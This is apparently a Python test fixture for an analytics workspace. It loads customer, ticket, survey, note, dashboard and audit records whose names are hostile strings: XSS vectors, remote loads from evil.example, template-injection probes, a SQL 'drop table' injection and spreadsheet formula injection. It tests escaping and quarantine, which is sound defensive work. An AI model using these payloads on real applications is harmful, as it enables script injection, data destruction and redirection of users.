"""Texts that harm a page, a template, a query or a spreadsheet which takes them for more than text."""

from __future__ import annotations

import json
from datetime import date
from pathlib import Path

from tenure.service.loading import load_files
from tenure.service.people.people import People
from tenure.service.people.tokens import Tokens
from tenure.service.saved.saved import Dashboard, Note, Saved, Segment
from tenure.service.workspace import Workspace
from tests.small import NOW, SETTINGS

CALL = "alert(document.domain)"
SHORT = 80
"""Longest name of what is saved."""
PRODUCT = "62615533"
"""7919 × 7907: what a template engine would make of some of the texts."""

TEXTS = (
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={CALL}>",
    f"<img src=x onerror={CALL}//",
    f'"><img src=x onerror={CALL}>',
    f"'><img src=x onerror={CALL}>",
    f"</title><img src=x onerror={CALL}>",
    f"</textarea><img src=x onerror={CALL}>",
    f"</option></select><img src=x onerror={CALL}>",
    f"</style><img src=x onerror={CALL}>",
    f"--><img src=x onerror={CALL}><!--",
    f"]]><img src=x onerror={CALL}>",
    f"</td></tr></table><img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"</text></svg><img src=x onerror={CALL}>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<a href=javascript:{CALL}>here</a>",
    f"<form action=javascript:{CALL}><button>here</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<div hx-get=//evil.example hx-trigger=load></div>",
    "<img src=//evil.example/x.png>",
    f'" onmouseover={CALL} x="',
    f"' onmouseover={CALL} x='",
    f"` onmouseover={CALL} x=`",
    f'" autofocus onfocus={CALL} "',
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f'";{CALL};//',
    f"';{CALL};//",
    f'\\";{CALL};//',
    f"${{{CALL}}}",
    f"\u2028{CALL}\u2029",
    "<!--<script>",
    "<![CDATA[<b>]]>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&amp;lt;b&amp;gt;",
    "\uff1cscript\uff1e",
    "{{7919*7907}}",
    "{% print(7919*7907) %}",
    "${7919*7907}",
    "#{7919*7907}",
    "<%= 7919*7907 %>",
    "{{config}} {{self.__init__.__globals__}}",
    "%s%s%n {0} {0.__class__}",
    "'; drop table data.accounts; --",
    '=HYPERLINK("//evil.example","here")',
    "@SUM(7919*7907)",
    "+7919*7907",
    "-7919*7907",
    "\u202eevil\u202c <b>right to left</b>",
    "<b>\u0301\u0301\u0301\u0301 many accents",
    "<" + "b" * 200 + ">",
)
"""No two alike, and none with a blank at an end."""


ATTRIBUTE = "<b>size</b>"
"""An attribute of accounts whose name is one too."""


def hostile_workspace(folder: Path, files: Path) -> Workspace:
    """A company whose customers, people, requests and answers have these texts for names. They are loaded
    from ``files``, as a company's own would be."""
    settings = SETTINGS.replace('["plan", "region"]', f'["plan", "region", "{ATTRIBUTE}"]')
    Workspace.create(folder, settings).close()
    workspace = Workspace(folder, now=lambda: NOW)
    tables: dict[str, list[dict[str, object]]] = {}
    for number, text in enumerate(TEXTS):
        for name, row in rows(number, text).items():
            tables.setdefault(name, []).append(row)
    files.mkdir()
    for name, found in tables.items():
        (files / f"{name}.jsonl").write_text("\n".join(map(json.dumps, found)), "utf-8")
    report = load_files(workspace, sorted(files.iterdir()), yes=True)
    refused = {one["file"]: one["quarantined"] for one in report["files"] if one["quarantined"]}
    assert not refused, report
    refuse(workspace, files / "refused")
    keep(workspace)
    return workspace


def rows(number: int, text: str) -> dict[str, dict[str, object]]:
    """One row of every table, with the text wherever text may be."""
    month = f"2025-0{number % 6 + 1}"
    account = text if number % 3 == 0 else f"x{number}"
    return {
        "accounts": {
            "account_id": account,
            "name": text,
            "created_at": "2024-01-05",
            "region": text,
            ATTRIBUTE: text,
        },
        "users": {
            "user_id": f"u {text}",
            "account_id": account,
            "created_at": "2024-01-06",
            "name": text,
            "email": text,
        },
        "subscription_items": {
            "item_id": f"i {text}",
            "account_id": account,
            "subscription_id": f"s {text}",
            "plan": text,
            "unit_amount": 100,
            "currency": "USD",
            "interval": "month",
            "started_at": "2024-02-01",
            "ended_at": f"{month}-15" if number % 2 else None,
        },
        "tickets": {
            "ticket_id": f"t {text}",
            "account_id": account,
            "subject": text,
            "category": text,
            "channel": text,
            "priority": text,
            "assignee": text,
            "status": "open",
            "opened_at": f"{month}-07T08:00:00",
        },
        "survey_responses": {
            "response_id": f"r {text}",
            "account_id": account,
            "survey": "nps",
            "instrument": "nps_0_10",
            "touchpoint": "relationship",
            "score": number % 11,
            "answered_at": f"{month}-20T12:00:00",
            "comment": f"{text} the price is too high",
        },
        "events": {
            "event_id": f"e {text}",
            "user_id": f"u {text}",
            "account_id": account,
            "event": text,
            "occurred_at": f"{month}-05T10:00:00",
        },
    }


def keep(workspace: Workspace) -> None:
    """Save, record and refuse the texts: notes, names of filters and dashboards, tokens, people, lines."""
    people = People(workspace.folder)
    saved, who = Saved(people.store, workspace.now), people.local()
    for number, text in enumerate(TEXTS):
        saved.save(Note(date(2025, 1 + number % 6, 2), text), who)
        if len(text) <= SHORT:
            saved.save(Segment(text, (f"region={text}",)), who)
            saved.save(Dashboard(text, ("mrr",)), who)
            Tokens(people).make(who, text, ("read",))
            people.add(f"u{number}@example.com", text, "viewer")
            people.set_portfolio(f"u{number}@example.com", {"region": (text,)})
    for text in TEXTS:  # last, for the first page of the audit
        people.record(who, text, what=text)
    people.store.close()


def refuse(workspace: Workspace, folder: Path) -> None:
    """Load a file whose name and rows are texts, and none of whose rows can be read."""
    folder.mkdir()
    file = folder / f"accounts <img src=x onerror={CALL}>.jsonl"
    rows = [{"account_id": text, "name": text, "created_at": text, "region": text} for text in TEXTS]
    file.write_text("\n".join(map(json.dumps, rows)), "utf-8")
    report = load_files(workspace, [file], table="accounts", yes=True)
    assert report["files"][0]["quarantined"] == len(TEXTS)
